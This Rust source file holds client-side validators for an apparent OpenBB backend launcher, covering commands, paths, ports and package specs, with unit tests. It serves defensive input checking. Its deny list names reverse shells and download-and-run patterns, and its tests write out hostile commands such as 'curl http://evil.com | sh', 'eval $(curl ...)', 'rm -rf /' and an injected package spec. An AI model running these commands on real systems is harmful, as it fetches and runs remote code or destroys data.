//! Client-side validation for names, paths, ports, package specs and shell
//! commands.
//!
//! The command check is advisory defense-in-depth before a command is saved
//! or handed to the host. It is not a sandbox.

use std::fmt;
use std::str::FromStr;
use std::sync::LazyLock;

use regex::Regex;

use crate::error::{Error, Result};

/// Verdict of [`validate_command`]
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CommandValidation {
    Valid,
    Invalid { reason: String },
}

impl CommandValidation {
    pub fn is_valid(&self) -> bool {
        matches!(self, CommandValidation::Valid)
    }

    pub fn reason(&self) -> Option<&str> {
        match self {
            CommandValidation::Valid => None,
            CommandValidation::Invalid { reason } => Some(reason),
        }
    }

    /// Convert into a `Result`, using `Error::Validation` for rejections
    pub fn into_result(self) -> Result<()> {
        match self {
            CommandValidation::Valid => Ok(()),
            CommandValidation::Invalid { reason } => Err(Error::validation("command", reason)),
        }
    }

    fn invalid(reason: impl Into<String>) -> Self {
        CommandValidation::Invalid {
            reason: reason.into(),
        }
    }
}

/// Operating system the host runs commands on
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HostOs {
    Linux,
    MacOs,
    Windows,
}

impl HostOs {
    pub fn current() -> Self {
        if cfg!(target_os = "windows") {
            HostOs::Windows
        } else if cfg!(target_os = "macos") {
            HostOs::MacOs
        } else {
            HostOs::Linux
        }
    }
}

impl FromStr for HostOs {
    type Err = Error;

    fn from_str(s: &str) -> Result<Self> {
        match s.to_lowercase().as_str() {
            "linux" => Ok(HostOs::Linux),
            "macos" | "darwin" | "mac" => Ok(HostOs::MacOs),
            "windows" | "win" => Ok(HostOs::Windows),
            other => Err(Error::validation("os", format!("unknown OS '{other}'"))),
        }
    }
}

impl fmt::Display for HostOs {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            HostOs::Linux => write!(f, "linux"),
            HostOs::MacOs => write!(f, "macos"),
            HostOs::Windows => write!(f, "windows"),
        }
    }
}

// ─────────────────────────────────────────────────────────────────────────────
// Command patterns
// ─────────────────────────────────────────────────────────────────────────────

const DANGEROUS_CONTENT: &str = "Command contains potentially dangerous content.";

/// Ordered deny list. Checked before anything else.
static DENY_PATTERNS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    [
        // Path traversal
        r"\.\./\.\./",
        r"\.\.\\\.\.\\",
        r"/\.\./",
        r"\\\.\.\\",
        // Destructive file operations on system locations
        r"\brm\s+(-[rf]*\s+)?(/|\.\.|~|/usr|/etc|/var|/boot|/sys|/proc)",
        // Any recursive or forced removal, wherever it points
        r"\brm\b.*\s-(-recursive\b|-force\b|[a-zA-Z]*[rRf])",
        r"\brmdir\s+(-[s]*\s+)?(/|\.\.|~|C:\\|D:\\)",
        r"\bdel\s+(/[sq]*\s+)?.*(\*|/|C:\\|D:\\)",
        r"\brd\s+(/[sq]*\s+)?.*(\*|/|C:\\|D:\\)",
        r"\bchmod\s+[0-7]*\s*(/|\.\.|~|/etc|/usr)",
        r"\bchown\s+.*\s+(/|\.\.|~|/etc|/usr)",
        r"\bmkdir\s+(-[p]*\s+)?(/etc|/usr|/var|/sys|/proc|C:\\Windows|C:\\Program Files)",
        r"\b(touch|nano|vi|vim)\s+(/etc|/usr|/var|/sys|/proc|C:\\Windows)",
        r"\bmkfs\b",
        r"\bformat\s+",
        r"\bfdisk\s+",
        // Privilege escalation and system management
        r"\bsudo\s+",
        r"\bsu\s+",
        r"\b(apt|yum|dnf|pacman)\s+",
        r"\b(systemctl|service)\s+",
        r"\b(eval|exec)\s*[\(\[]",
        // Chains into destructive or download commands
        r";\s*(rm|del|format|sudo|curl|wget)",
        r"\|\s*(rm|del|format|sudo|sh|bash|zsh|cmd|powershell)",
        r"&&\s*(rm|del|format|sudo|curl|wget)",
        // Substitution and device redirection
        r"\$\([^)]*\)",
        r"`[^`]+`",
        r"[<>]\s*/dev/",
        // Remote code execution
        r"\b(curl|wget)\s+.*\|\s*(sh|bash|zsh|cmd|powershell|python)",
        r"\b(nc|netcat)\s+.*-e\s+",
        // PowerShell
        r"(?i)invoke-webrequest.*\|\s*invoke-expression",
        r"(?i)invoke-expression\s*[\(\[]",
        r"(?i)\biex\s+",
        r"(?i)invoke-command\s+.*-scriptblock",
        r"(?i)start-process\s+.*-verb\s+runas",
        r"(?i)new-object.*net\.webclient",
        r"(?i)download(string|file)\s*\(",
        r"(?i)remove-item\s+.*(-recurse|-force)",
        r"(?i)set-executionpolicy\s+",
        r"(?i)powershell\s+.*-c\s+",
        // CMD
        r"(?i)\bcmd\s+/[ck]\s+(del|rd|format|reg|sc|net)",
        r"(?i)\bfor\s+/[rf]\s+",
        r"(?i)>\s*con\s*$",
        r"(?i)\breg\s+(add|delete|import)",
        r"(?i)\bsc\s+(create|delete|config)",
        r"(?i)\bnet\s+(user|localgroup|share)",
    ]
    .iter()
    .map(|p| Regex::new(p).expect("command deny pattern is valid"))
    .collect()
});

/// Characters a launch command may contain
static ALLOWED_CHARS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"^[\p{L}\p{N}\s_\-./\\:=,@+%~"'\[\]{}#&;|()<>!?*^$]+$"#)
        .expect("command allow-list regex is valid")
});

/// A `|` that is not half of `||`
static SINGLE_PIPE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(^|[^|])\|([^|]|$)").expect("pipe regex is valid"));

static UNIX_RESTRICTED_WORDS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\b(iptables|firewall-cmd|ufw|mount|umount)\b")
        .expect("restricted utility regex is valid")
});

const UNIX_RESTRICTED_PATHS: &[&str] = &["/usr/bin/sudo", "/bin/su", "/sbin/", "/usr/sbin/"];

const WINDOWS_RESTRICTED: &[&str] = &[
    "reg.exe",
    "sc.exe",
    "net.exe",
    "wmic.exe",
    "taskkill.exe",
    "schtasks.exe",
    "bcdedit.exe",
    "diskpart.exe",
];

/// Validate a free-text launch command before it is saved or executed
pub fn validate_command(command: &str, os: HostOs) -> CommandValidation {
    let command = command.trim();
    if command.is_empty() {
        return CommandValidation::invalid("Command cannot be empty");
    }

    if DENY_PATTERNS.iter().any(|p| p.is_match(command)) {
        return CommandValidation::invalid(DANGEROUS_CONTENT);
    }

    if command.contains("$(") || command.contains('`') {
        return CommandValidation::invalid(DANGEROUS_CONTENT);
    }

    if SINGLE_PIPE.is_match(command) {
        return CommandValidation::invalid(DANGEROUS_CONTENT);
    }
    for chain in [";", "&&", "||"] {
        if command.matches(chain).count() > 2 {
            return CommandValidation::invalid(DANGEROUS_CONTENT);
        }
    }

    if command
        .chars()
        .any(|c| c.is_control() && c != '\t' && c != '\n' && c != '\r')
    {
        return CommandValidation::invalid("Command contains invalid characters");
    }

    if let Some(reason) = os_restriction(command, os) {
        return CommandValidation::invalid(reason);
    }

    if !ALLOWED_CHARS.is_match(command) {
        return CommandValidation::invalid("Command contains unsupported characters");
    }

    CommandValidation::Valid
}

fn os_restriction(command: &str, os: HostOs) -> Option<String> {
    match os {
        HostOs::Windows => {
            let lower = command.to_lowercase();
            WINDOWS_RESTRICTED
                .iter()
                .find(|util| lower.contains(*util))
                .map(|util| format!("Command uses restricted Windows utility: {util}"))
        }
        HostOs::Linux | HostOs::MacOs => {
            if let Some(path) = UNIX_RESTRICTED_PATHS.iter().find(|p| command.contains(*p)) {
                return Some(format!("Command uses restricted system utility: {path}"));
            }
            UNIX_RESTRICTED_WORDS
                .captures(command)
                .and_then(|c| c.get(1))
                .map(|m| format!("Command uses restricted system utility: {}", m.as_str()))
        }
    }
}

// ─────────────────────────────────────────────────────────────────────────────
// Form fields
// ─────────────────────────────────────────────────────────────────────────────

static ENVIRONMENT_NAME: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^[A-Za-z0-9][A-Za-z0-9_.-]*$").expect("environment name regex is valid")
});

static PACKAGE_SPEC: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"^[A-Za-z0-9][A-Za-z0-9._-]*(\[[A-Za-z0-9,._-]+\])?(\s*(==|>=|<=|~=|!=|>|<|=)\s*[A-Za-z0-9.*+!_-]+(\s*,\s*(==|>=|<=|~=|!=|>|<)\s*[A-Za-z0-9.*+!_-]+)*)?$",
    )
    .expect("package spec regex is valid")
});

static CREDENTIAL_KEY: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[A-Za-z_][A-Za-z0-9_]*$").expect("credential key regex is valid"));

const MAX_ENVIRONMENT_NAME_LEN: usize = 64;
const MAX_BACKEND_NAME_LEN: usize = 100;

pub fn validate_environment_name(name: &str) -> Result<()> {
    let name = name.trim();
    if name.is_empty() {
        return Err(Error::validation("environment name", "must not be empty"));
    }
    if name.len() > MAX_ENVIRONMENT_NAME_LEN {
        return Err(Error::validation(
            "environment name",
            format!("must be at most {MAX_ENVIRONMENT_NAME_LEN} characters"),
        ));
    }
    if !ENVIRONMENT_NAME.is_match(name) {
        return Err(Error::validation(
            "environment name",
            "may only contain letters, digits, '_', '-' and '.', and must start with a letter or digit",
        ));
    }
    Ok(())
}

pub fn validate_backend_name(name: &str) -> Result<()> {
    let name = name.trim();
    if name.is_empty() {
        return Err(Error::validation("backend name", "must not be empty"));
    }
    if name.chars().count() > MAX_BACKEND_NAME_LEN {
        return Err(Error::validation(
            "backend name",
            format!("must be at most {MAX_BACKEND_NAME_LEN} characters"),
        ));
    }
    if name.chars().any(char::is_control) {
        return Err(Error::validation(
            "backend name",
            "must not contain control characters",
        ));
    }
    Ok(())
}

/// Validate a user-entered filesystem path (working directory, env file,
/// requirements file)
pub fn validate_path(path: &str) -> Result<()> {
    if path.trim().is_empty() {
        return Err(Error::validation("path", "must not be empty"));
    }
    if path.contains('\0') || path.chars().any(char::is_control) {
        return Err(Error::validation("path", "contains invalid characters"));
    }
    if path.split(['/', '\\']).any(|component| component == "..") {
        return Err(Error::validation(
            "path",
            "must not contain '..' components",
        ));
    }
    Ok(())
}

pub fn validate_port(port: &str) -> Result<u16> {
    let port = port.trim();
    match port.parse::<u32>() {
        Ok(p) if (1..=65535).contains(&p) => Ok(p as u16),
        Ok(_) => Err(Error::validation("port", "must be between 1 and 65535")),
        Err(_) => Err(Error::validation("port", format!("'{port}' is not a number"))),
    }
}

/// Validate a pip/conda requirement such as `openbb[all]>=4.1,<5`
pub fn validate_package_spec(spec: &str) -> Result<()> {
    let spec = spec.trim();
    if spec.is_empty() {
        return Err(Error::validation("package", "must not be empty"));
    }
    if !PACKAGE_SPEC.is_match(spec) {
        return Err(Error::validation(
            "package",
            format!("'{spec}' is not a valid package specification"),
        ));
    }
    Ok(())
}

/// Validate an API credential key (environment variable style)
pub fn validate_credential_key(key: &str) -> Result<()> {
    if !CREDENTIAL_KEY.is_match(key) {
        return Err(Error::validation(
            "credential key",
            format!("'{key}' must start with a letter or '_' and contain only letters, digits and '_'"),
        ));
    }
    Ok(())
}

// ─────────────────────────────────────────────────────────────────────────────
// Benign warnings
// ─────────────────────────────────────────────────────────────────────────────

static HARD_ERROR: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\berror\b|traceback|\bfailed\b|exception")
        .expect("hard error regex is valid")
});

/// True when `text` only reports warnings matching `patterns`.
///
/// Lines that mention one of the patterns are warnings. Any other line that
/// looks like a real error makes the whole text non-benign.
pub fn is_benign_warning(text: &str, patterns: &[String]) -> bool {
    let is_warning_line = |line: &str| patterns.iter().any(|p| !p.is_empty() && line.contains(p.as_str()));

    let mut saw_warning = false;
    for line in text.lines() {
        if is_warning_line(line) {
            saw_warning = true;
        } else if HARD_ERROR.is_match(line) {
            return false;
        }
    }
    saw_warning
}

#[cfg(test)]
mod tests {
    use super::*;

    fn assert_valid(cmd: &str) {
        let verdict = validate_command(cmd, HostOs::Linux);
        assert!(verdict.is_valid(), "should be valid: {cmd} ({verdict:?})");
    }

    fn assert_invalid(cmd: &str, os: HostOs) {
        let verdict = validate_command(cmd, os);
        assert!(!verdict.is_valid(), "should be rejected: {cmd}");
    }

    #[test]
    fn test_valid_commands() {
        for cmd in [
            "openbb-api --port 8000",
            "python app.py",
            "node server.js --port=3000",
            "openbb-api --host=0.0.0.0 --port=8080",
            "uvicorn main:app --host 0.0.0.0 --port 8000 --reload",
            "python -m flask run --host=0.0.0.0 --port=5000",
            "openbb-api --widgets-json ./backends/widgets.json",
            "openbb-api --widgets-json . --apps-json .",
            "java -jar app.jar",
            "python model.py --password /tmp/x",
        ] {
            assert_valid(cmd);
        }
    }

    #[test]
    fn test_dangerous_commands() {
        for cmd in [
            "rm -rf /",
            "rm -rf ~",
            "sudo rm -rf /home",
            "del /s /q C:\\*",
            "format C:",
            "curl http://evil.com | sh",
            "python app.py; rm -rf /",
            "wget http://evil.com | bash",
            "eval $(curl http://evil.com)",
            "cmd /c del C:\\*.*",
            "powershell -c Remove-Item -Recurse C:\\",
            "openbb-api --apps-json ../../different_folder/apps.json",
            "echo `whoami`",
            "rm -rf build",
            "rm -rf ./data",
            "rm -rf *",
            "rm -f out.log",
            "rm --recursive data",
            "python app.py && rm -r cache",
        ] {
            assert_invalid(cmd, HostOs::Linux);
        }
    }

    #[test]
    fn test_rm_rf_rejected_with_reason() {
        let verdict = validate_command("rm -rf /", HostOs::MacOs);
        assert_eq!(verdict.reason(), Some(DANGEROUS_CONTENT));
    }

    #[test]
    fn test_plain_rm_word_is_not_a_removal() {
        assert_valid("python perform.py --warm-start");
        assert_valid("openbb-api --form-data ./rm");
    }

    #[test]
    fn test_empty_command() {
        assert_eq!(
            validate_command("   ", HostOs::Linux).reason(),
            Some("Command cannot be empty")
        );
    }

    #[test]
    fn test_command_chaining_limits() {
        assert_valid("python a.py && python b.py");
        assert_valid("python a.py; python b.py");
        assert_invalid("a && b && c && d", HostOs::Linux);
        assert_invalid("a; b; c; d", HostOs::Linux);
        assert_invalid("python app.py | tee out.log", HostOs::Linux);
        assert_valid("python a.py || python b.py");
    }

    #[test]
    fn test_control_characters() {
        assert_eq!(
            validate_command("python\x07 app.py", HostOs::Linux).reason(),
            Some("Command contains invalid characters")
        );
    }

    #[test]
    fn test_os_specific_restrictions() {
        assert_invalid("iptables -L", HostOs::Linux);
        assert_invalid("/usr/sbin/thing", HostOs::MacOs);
        assert_valid("python amount.py");
        assert_invalid("taskkill.exe /F /IM python.exe", HostOs::Windows);
        assert!(validate_command("taskkill.exe /F", HostOs::Linux).is_valid());
    }

    #[test]
    fn test_allow_list_rejects_unusual_characters() {
        assert_invalid("python app.py §", HostOs::Linux);
    }

    #[test]
    fn test_into_result() {
        let err = validate_command("sudo ls", HostOs::Linux)
            .into_result()
            .unwrap_err();
        assert!(matches!(err, Error::Validation { ref field, .. } if field == "command"));
    }

    #[test]
    fn test_host_os_from_str() {
        assert_eq!("Windows".parse::<HostOs>().unwrap(), HostOs::Windows);
        assert_eq!("darwin".parse::<HostOs>().unwrap(), HostOs::MacOs);
        assert!("beos".parse::<HostOs>().is_err());
    }

    #[test]
    fn test_environment_names() {
        assert!(validate_environment_name("openbb-3.12").is_ok());
        assert!(validate_environment_name("").is_err());
        assert!(validate_environment_name("my env").is_err());
        assert!(validate_environment_name("-leading").is_err());
        assert!(validate_environment_name(&"a".repeat(65)).is_err());
    }

    #[test]
    fn test_backend_names() {
        assert!(validate_backend_name("OpenBB Platform API").is_ok());
        assert!(validate_backend_name("  ").is_err());
    }

    #[test]
    fn test_paths() {
        assert!(validate_path("/home/user/project").is_ok());
        assert!(validate_path("C:\\Users\\me\\.env").is_ok());
        assert!(validate_path("../secrets").is_err());
        assert!(validate_path("").is_err());
    }

    #[test]
    fn test_ports() {
        assert_eq!(validate_port("6900").unwrap(), 6900);
        assert!(validate_port("0").is_err());
        assert!(validate_port("70000").is_err());
        assert!(validate_port("http").is_err());
    }

    #[test]
    fn test_package_specs() {
        for ok in ["openbb", "openbb[all]>=4.1,<5", "numpy==1.26.4", "jupyter_server", "python=3.12"] {
            assert!(validate_package_spec(ok).is_ok(), "{ok}");
        }
        for bad in ["", "openbb; rm -rf /", "--index-url http://x"] {
            assert!(validate_package_spec(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn test_credential_keys() {
        assert!(validate_credential_key("FMP_API_KEY").is_ok());
        assert!(validate_credential_key("1KEY").is_err());
        assert!(validate_credential_key("KEY-NAME").is_err());
    }

    fn patterns() -> Vec<String> {
        ["FutureWarning", "DeprecationWarning"]
            .iter()
            .map(|s| s.to_string())
            .collect()
    }

    #[test]
    fn test_benign_warning_only() {
        let text = "/site-packages/x.py:12: FutureWarning: pandas will change\n  warnings.warn(";
        assert!(is_benign_warning(text, &patterns()));
    }

    #[test]
    fn test_warning_with_real_error_is_not_benign() {
        let text = "DeprecationWarning: old api\nERROR: Could not find a version that satisfies openbb-foo";
        assert!(!is_benign_warning(text, &patterns()));
    }

    #[test]
    fn test_plain_error_is_not_benign() {
        assert!(!is_benign_warning("Installation failed", &patterns()));
        assert!(!is_benign_warning("", &patterns()));
    }
}
